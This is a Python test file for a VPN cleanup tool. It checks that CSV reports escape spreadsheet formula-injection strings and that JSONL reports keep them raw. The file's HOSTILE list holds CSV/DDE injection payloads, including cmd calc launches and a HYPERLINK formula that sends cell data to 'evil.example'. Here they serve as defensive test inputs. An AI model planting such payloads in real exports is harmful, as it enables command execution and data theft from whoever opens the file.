"""The report: CSV cells a spreadsheet would evaluate are escaped; JSON lines stay raw."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from cleanup_fakes import FakeVpc, make_refs

from tcvpc.cleanup.engine import CleanupEngine
from tcvpc.cleanup.journal import Journal
from tcvpc.cleanup.report import ReportError, open_report, write_report
from tcvpc.models import DeleteOutcome, TunnelRef

MakeJournal = Callable[[Sequence[TunnelRef]], Journal]

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_server_text_in_a_csv_report_is_not_a_formula(
    make_journal: MakeJournal, tmp_path: Path
) -> None:
    refs = make_refs(1, len(HOSTILE))
    journal = make_journal(refs)
    # the API's message comes back through the engine into the journal...
    fake = FakeVpc(refs[:1], fail={refs[0].vpn_connection_id: 1}, fail_message=HOSTILE[0])
    await CleanupEngine(fake, journal).run()
    # ...and any other server-controlled field (code, request id, message) the same way
    for ref, text in zip(refs[1:], HOSTILE[1:], strict=True):
        journal.record_outcome(
            ref, DeleteOutcome.FAILED, code=text, message=text, request_id=text, attempts=1
        )
    write_report(journal, tmp_path / "r.csv")
    write_report(journal, tmp_path / "r.jsonl")
    with (tmp_path / "r.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    messages = [r["message"] for r in rows]
    assert messages == ["'" + t for t in HOSTILE]
    assert [r["code"] for r in rows[1:]] == ["'" + t for t in HOSTILE[1:]]
    assert [r["request_id"] for r in rows[1:]] == ["'" + t for t in HOSTILE[1:]]
    assert rows[0]["VpnGatewayId"] == refs[0].vpn_gateway_id  # plain text is untouched
    raw = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert [r["message"] for r in raw] == HOSTILE


def test_a_report_that_cannot_be_written_is_found_at_open(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="directory"):
        open_report(tmp_path)
    with pytest.raises(ReportError, match="No such file"):
        open_report(tmp_path / "missing" / "r.jsonl")
    report = open_report(tmp_path / "r.jsonl")
    assert (tmp_path / "r.jsonl.tmp").exists()
    report.discard()
    assert not (tmp_path / "r.jsonl.tmp").exists()
